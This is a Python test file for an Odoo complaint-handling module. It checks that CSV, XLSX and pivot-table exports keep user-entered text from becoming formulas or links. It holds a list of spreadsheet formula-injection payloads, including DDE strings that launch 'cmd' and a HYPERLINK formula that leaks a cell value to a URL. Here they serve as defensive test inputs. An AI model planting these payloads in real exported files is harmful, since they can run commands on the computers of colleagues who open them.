import csv
import io
import json

import openpyxl

from odoo.http import Request
from odoo.tests import HttpCase, tagged

from ...spreadsheet import csv_text, is_long
from .common import JournalCase

FORMULAS = (
    '=HYPERLINK("http://example.com/?"&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "|cmd",
    "＝1+1",
    "{=1+1}",
)
LINKS = ("http://example.com/x", "mailto:a@example.com", "external:c:\\x.xlsx")


@tagged("post_install", "-at_install")
class TestExportFiles(JournalCase, HttpCase):
    """What people write is text in the files that a colleague opens, and all of it."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.leader.group_ids += cls.env.ref("klagebehandling.group_export")

    def _write(self, text):
        """A case whose words are these, as if they had come in."""
        self._sql("UPDATE complaint_case SET title = %s, description = %s", text, text)
        self.env.invalidate_all()

    def _export(self, kind, *names, model="complaint.case", **values):
        self.authenticate(self.leader.login, self.leader.login)
        fields = self.env[model]._fields
        columns = [
            {"name": name, "label": name, "type": fields[name].type} for name in names
        ]
        data = {
            "model": model,
            "fields": columns,
            "ids": self.case.ids,
            "domain": [],
            "import_compat": False,
            **values,
        }
        return self._post(f"/web/export/{kind}", data)

    def _post(self, url, data):
        token = Request.csrf_token(self)
        response = self.url_open(
            url, data={"data": json.dumps(data), "csrf_token": token}
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def _csv(self, *names, **values):
        content = self._export("csv", *names, **values).decode()
        return list(csv.reader(io.StringIO(content, newline="")))

    def _xlsx(self, *names, **values):
        return openpyxl.load_workbook(
            io.BytesIO(self._export("xlsx", *names, **values))
        )

    def _cells(self, book):
        return [
            cell
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if cell.value
        ]

    # Formulas

    def test_no_text_is_a_formula_in_a_csv_file(self):
        for text in FORMULAS:
            self._write(text)
            for row in self._csv("title", "description")[1:]:
                for value in row:
                    self.assertNotRegex(value, r"^\s*[=+\-@|＝\ufeff]|^[\t\r\n]", text)
                    self.assertIn(text.strip("\ufeff \t\r\n"), value)

    def test_no_text_is_one_where_semicolons_part_the_cells(self):
        # Excel in Norwegian and Swedish, which opens the file with a double click.
        for text in ("Hei;=1+1", 'Hei;"=1+1', "Hei\n=1+1", "Hei\r\n-cmd|x", "a;b\t@x"):
            self._write(text)
            content = self._export("csv", "title").decode()
            cells = [
                cell.strip('"')
                for line in content.splitlines()
                for part in line.split(";")
                for cell in part.split("\t")
            ]
            for cell in cells:
                self.assertNotRegex(cell, r"^[=+\-@|]", text)

    def test_no_text_is_a_formula_or_a_link_in_an_xlsx_file(self):
        for text in (*FORMULAS, *LINKS):
            self._write(text)
            for groupby in ([], ["title"]):
                book = self._xlsx("reference", "title", "description", groupby=groupby)
                cells = self._cells(book)
                self.assertFalse([one for one in cells if one.data_type == "f"], text)
                self.assertFalse([one for one in cells if one.hyperlink], text)
                words = text.replace("\r", " ").strip()
                self.assertTrue(any(words in str(one.value) for one in cells), text)

    def test_a_formula_stays_text_when_its_cell_is_edited(self):
        self._write("=1+1")
        cells = self._cells(self._xlsx("title"))
        self.assertTrue(next(one for one in cells if one.value == "=1+1").quotePrefix)

    def test_the_titles_of_a_pivot_table_are_text(self):
        for text in (*FORMULAS, *LINKS):
            header = {"title": text, "width": 1, "height": 1}
            table = {
                "title": "Cases",
                "model": "complaint.case",
                "measure_count": 1,
                "col_group_headers": [[header]],
                "measure_headers": [{"title": text, "is_bold": False}],
                "rows": [{"title": text, "indent": 0, "values": [{"value": -5}]}],
            }
            self.authenticate(self.leader.login, self.leader.login)
            content = self._post("/web/pivot/export_xlsx", table)
            cells = self._cells(openpyxl.load_workbook(io.BytesIO(content)))
            self.assertFalse([one for one in cells if one.data_type == "f"], text)
            self.assertFalse([one for one in cells if one.hyperlink], text)
            self.assertIn(-5, [one.value for one in cells])

    # Numbers and dates

    def test_numbers_and_dates_stay_what_they_are(self):
        self._sql("UPDATE complaint_case SET days_to_close = -5")
        self.env.invalidate_all()
        self.assertEqual(csv_text(-5), -5)
        self.assertEqual(csv_text(-5.5), -5.5)
        self.assertIs(csv_text(False), False)
        row = self._csv("days_to_close", "received_at")[1]
        self.assertEqual(row[0], "-5")
        self.assertRegex(row[1], r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$")
        number, moment = self._cells(self._xlsx("days_to_close", "received_at"))[2:]
        self.assertEqual((number.value, number.data_type), (-5, "n"))
        self.assertEqual(moment.data_type, "d")

    # Whole

    def test_a_long_text_is_whole_in_an_xlsx_file(self):
        for text in ("Å" * 40_000 + "SLUTT", "😀" * 20_000 + "SLUTT"):
            self._write(text)
            for groupby in ([], ["state"]):
                book = self._xlsx("reference", "description", groupby=groupby)
                first, long = book.worksheets
                (row,) = long.iter_rows(values_only=True)
                self.assertEqual("".join(part for part in row[1:] if part), text)
                cell = first[row[0]].value
                self.assertIn("row 1 of the sheet “Long texts”", cell)
                self.assertFalse(is_long(cell))

    def test_a_long_text_is_whole_in_a_csv_file(self):
        text = "Å" * 40_000 + "SLUTT"
        self._write(text)
        self.assertEqual(self._csv("description")[1], [text])

    def test_a_file_without_long_texts_has_one_sheet(self):
        self.assertEqual(len(self._xlsx("reference").worksheets), 1)
